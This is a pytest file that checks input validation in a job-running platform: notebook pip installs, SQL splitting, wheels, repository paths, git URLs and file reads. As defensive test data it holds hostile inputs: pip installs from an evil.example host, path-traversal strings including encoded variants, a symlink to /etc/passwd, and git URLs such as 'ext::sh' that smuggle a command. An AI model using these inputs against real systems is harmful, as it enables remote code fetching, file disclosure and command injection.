"""What tasks run and leave, looked at without a server: packages, statements, places in repositories, files."""

import io
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from millpond.jobs.code import Code, installs
from millpond.jobs.domain import Kind, Result, TaskRun, TaskSpec
from millpond.jobs.git_fetch import check_size
from millpond.jobs.git_sources import GitSources, checked_source, inside
from millpond.jobs.notebook_run import NotebookRun
from millpond.jobs.sql_tasks import _Going, _request, statements_of
from millpond.jobs.written import read_bounded
from millpond.kernel.errors import InvalidArgument, NotFound, PermissionDenied
from millpond.kernel.packages import needs_of_wheel, without
from millpond.kernel.storable import storable
from millpond.sdk.dbutils.fs import FileSystem
from millpond.sdk.dbutils.widgets import Widgets
from millpond.sql.domain import StatementState
from millpond.workspace.notebooks import Cell, Language, Notebook
from tests.wheels import make_wheel


@pytest.mark.parametrize(
    ("line", "packages"),
    [
        ("%pip install -U 'six>=1' idna==3  # why", ("idna==3", "six>=1")),
        ("%pip install --index-url http://evil.example six", None),
        ("%pip install git+https://evil.example/x", None),
        ("%pip install /Volumes/a/b/c/x.whl", None),
        ("%pip install six @ https://evil.example/six.whl", None),
        ("%pip uninstall six", None),
        ("print('%pip install six')", None),
    ],
)
def test_only_packages_of_the_index_are_installed_for_a_notebook(line: str, packages: tuple[str, ...] | None) -> None:
    notebook = Notebook(language=Language.PYTHON, cells=(Cell(source=f"{line}\nimport os"),))
    assert [*installs(notebook).values()] == ([] if packages is None else [packages])
    text = Notebook(language=Language.PYTHON, cells=(Cell(source=line, is_markdown=True),))
    assert installs(text) == {}


def test_semicolons_divide_statements_where_they_are_none_of_texts_and_comments() -> None:
    text = "SELECT ';' -- a; b\n; /* ; */ SELECT `a;b`;\n;"
    assert statements_of(text) == ["SELECT ';' -- a; b", "/* ; */ SELECT `a;b`"]
    for none in ("", "  ;\n", "-- only words", "SELECT 'open"):
        with pytest.raises(InvalidArgument):
            statements_of(none)


def test_sql_that_would_keep_the_server_busy_is_refused_before_it_is_read() -> None:
    with pytest.raises(InvalidArgument, match="more than 1,000 statements"):
        statements_of("SELECT 1;" * 1001)
    with pytest.raises(InvalidArgument, match="more than 1,048,576 characters"):
        statements_of("-" * (1 << 20) + "-")


def test_a_statement_gets_the_parameters_that_it_speaks_of_whatever_others_are_called() -> None:
    given = {"day": "1", "da": "2", "(a+)+$": "3"}
    asked = _request("SELECT :day, :other " + ":" + "a" * 50_000, "w", "s", given)
    assert [(each.name, each.value) for each in asked.parameters] == [("day", "1")]


def test_a_large_text_is_refused_by_its_size(tmp_path: Path) -> None:
    nothing: Any = None

    class Repository:
        """Holds one large file, which takes no room."""

        def checkout(self, run: object, directory: Path) -> Path:
            with (directory / "a.sql").open("wb") as stream:
                stream.truncate(1 << 40)
            return directory

    code = Code(nothing, nothing, Repository(), nothing)  # type: ignore[arg-type]
    spec = TaskSpec(key="a", kind=Kind.SQL, from_git=True)
    with pytest.raises(InvalidArgument, match=r"a\.sql has 1,099,511,627,776 bytes"):
        code.sql(nothing, nothing, spec, "a.sql", tmp_path)


def test_what_scores_a_table_hides_no_module_of_pythons_own(tmp_path: Path) -> None:
    """As the SDK's `code`, beside the script, would."""
    nothing: Any = None
    body = {"source_table": "a.b.c", "target_table": "a.b.d", "model": "models:/a.b.m/1"}
    spec, task = TaskSpec(key="a", kind=Kind.SCORING), TaskRun(id=1, run_id=1, key="a", order=body)
    found = Code(nothing, nothing, nothing, nothing).get(nothing, nothing, spec, task, tmp_path)
    script = Path(found.order["script"])
    done = subprocess.run(
        [sys.executable, "-c", "import code, millpond.sdk.scoring; print(code.__file__)"], cwd=script.parent,
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert Path(done.stdout.strip()).parent == Path(os.__file__).parent
    failed = subprocess.run([sys.executable, str(script), '{"source": "x"}'], capture_output=True, text=True)
    assert "score_table() missing 2 required positional arguments" in failed.stderr


def test_what_statements_did_is_written_at_their_end_and_not_after_each() -> None:
    nothing: Any = None
    sent: list[Any] = []

    class Statements:
        """Ends each statement at once; the third fails."""

        def submit(self, principal: object, request: object) -> Any:
            sent.append(request)
            return SimpleNamespace(id=str(request))

        def get(self, principal: object, statement_id: str) -> Any:
            return SimpleNamespace(state=StatementState.FAILED if statement_id == "3" else StatementState.SUCCEEDED)

    kept: list[int] = []
    statements: Any = Statements()
    going = _Going(statements, nothing, lambda: Result.NONE, time.monotonic() + 60)
    requests: Any = [1, 2, 3, 4]
    going.run_all(requests, lambda: kept.append(len(sent)))
    assert (sent, kept) == ([1, 2, 3], [3])


def test_a_wheel_says_what_it_needs_here(tmp_path: Path) -> None:
    lines = (
        "Name: a",
        "Requires-Dist: six>1",
        "Requires-Dist: x; sys_platform == 'win32'",
        "Requires-Dist: y; extra == 'e'",
    )
    needs = "\n".join(lines)
    wheel = make_wheel(tmp_path, "a", "1", {"a-1.dist-info/METADATA": needs})
    assert needs_of_wheel(wheel.read_bytes(), "a.whl") == ("six>1",)
    assert without(["six>1", "My_Lib"], ["my_lib-2.0-py3-none-any.whl"]) == ["six>1"]
    with pytest.raises(InvalidArgument, match="no wheel"):
        needs_of_wheel(b"PK", "a.whl")


def test_a_file_of_a_repository_is_inside_of_it(tmp_path: Path) -> None:
    root = tmp_path / "repository"
    (root / ".git").mkdir(parents=True)
    (root / ".git" / "config").write_text("")
    (root / "a.py").write_text("")
    (tmp_path / "secret.py").write_text("")
    (root / "link.py").symlink_to(tmp_path / "secret.py")
    assert inside(root, "a", notebook=True) == root / "a.py"
    for path in (
        "../secret.py",
        "a/../../secret.py",
        str(tmp_path / "secret.py"),
        ".git/config",
        "link.py",
        "none",
        "",
    ):
        with pytest.raises(NotFound):
            inside(root, path)


@pytest.mark.parametrize("url", ["https://u:p@x.org/r", "ssh://x/r", "file:///a/../b", "-x", "ext::sh", "https://x y"])
def test_what_is_no_address_of_a_repository_is_refused(url: str) -> None:
    with pytest.raises(InvalidArgument):
        checked_source({"git_url": url, "git_branch": "main"})


def test_what_a_child_left_is_read_as_a_file_of_bounded_size_or_not_at_all(tmp_path: Path) -> None:
    (tmp_path / "good").write_text("12345")
    (tmp_path / "link").symlink_to("/etc/passwd")
    os.mkfifo(tmp_path / "pipe")
    assert read_bounded(tmp_path / "good", 5) == b"12345"
    assert [read_bounded(tmp_path / name, 4) for name in ("good", "link", "pipe", "none")] == [None] * 4
    assert storable({"a\0": ["\ud800", 1, None]}) == {"a\ufffd": ["?", 1, None]}


def test_widgets_have_what_was_given_or_their_defaults() -> None:
    widgets = Widgets({"a": "1", "several": "x,y"})
    widgets.text("a", "0")
    widgets.combobox("free", "f", ["g"])
    widgets.multiselect("several", "x", ["x", "y", "z"])
    assert widgets.getAll() == {"a": "1", "free": "f", "several": "x,y"}
    with pytest.raises(ValueError, match="none of its choices"):
        widgets.dropdown("d", "q", ["r"])
    with pytest.raises(ValueError, match="no choice"):
        widgets.dropdown("a", "2", ["2", "3"])
    widgets.remove("a")
    with pytest.raises(ValueError, match="No input widget named 'a'"):
        widgets.get("a")
    assert widgets.getArgument("a", "d") == "d"


@pytest.mark.parametrize("tail", ["%2e%2e/other/x", "%2E./other/x", "a%2f..%2fother", "%252e%252e/other", "a%5c..%5cb"])
def test_an_address_in_disguise_leads_nowhere(tail: str) -> None:
    url = f"https://git.example/ours/{tail}"
    with pytest.raises(InvalidArgument, match="git_url"):
        checked_source({"git_url": url, "git_branch": "main"})
    checked_source({"git_url": "https://git.example/our%20team/x", "git_branch": "main"})
    run: Any = SimpleNamespace(settings={"git_source": {"git_url": url, "git_branch": "main"}})
    with pytest.raises(PermissionDenied, match="not allowed here"):
        GitSources(["https://git.example/ours"], lambda *_: "").checkout(run, Path("/nowhere"))


def test_a_repository_of_a_few_objects_and_millions_of_files_is_refused_before_it_is_written(tmp_path: Path) -> None:
    def git(*words: str, given: str = "") -> str:
        done = subprocess.run(["git", *words], cwd=tmp_path, input=given, capture_output=True, text=True, check=True)
        return done.stdout.strip()

    git("init", "-q")
    tree = git("mktree", given=f"100644 blob {git('hash-object', '-w', '--stdin', given='x')}\tx\n")
    check_size(tmp_path, tree, 1)
    with pytest.raises(ValueError, match="0 bytes"):
        check_size(tmp_path, tree, 0)
    for _ in range(9):
        tree = git("mktree", given="".join(f"040000 tree {tree}\t{number}\n" for number in range(10)))
    with pytest.raises(ValueError, match="more than 50,000 files"):
        check_size(tmp_path, tree, 1 << 40)


def test_what_is_moved_onto_itself_stays(tmp_path: Path) -> None:
    nothing: Any = None
    files = FileSystem(nothing)
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "a").write_text("kept")
    place = f"file:{tmp_path}/d"
    for act in (files.cp, files.mv):
        for source, to in (("/a", "/a"), ("/a", ""), ("", "/"), ("", "/b")):
            with pytest.raises(ValueError, match="nothing was copied or moved"):
                act(place + source, place + to, True)
    assert [path.name for path in (tmp_path / "d").iterdir()] == ["a"]
    assert files.mv(f"{place}/a", f"{place}/ab")
    assert (tmp_path / "d" / "ab").read_text() == "kept"


def test_a_damaged_wheel_is_no_wheel() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as wheel:
        wheel.writestr("a-1.dist-info/METADATA", "Name: a\n" * 500)
    data = bytearray(packed.getvalue())
    place = data.index(b"METADATA") + len("METADATA")
    data[place : place + 6] = b"\xff" * 6
    with pytest.raises(InvalidArgument, match="no wheel: Error -3"):
        needs_of_wheel(bytes(data), "a.whl")


def test_a_notebook_is_kept_before_each_cell_too() -> None:
    nothing: Any = None
    kept: list[int] = []
    cells = tuple(Cell(source=f"{number}") for number in range(3))
    run = NotebookRun(
        Notebook(language=Language.PYTHON, cells=cells), "/a", utils=nothing, api=nothing,
        keep=lambda told: kept.append(sum(bool(cell["outputs"]) for cell in told["cells"])),
    )  # fmt: skip
    done = run.run()
    assert (done, kept) == ({"ok": True}, [0, 1, 2, 3])
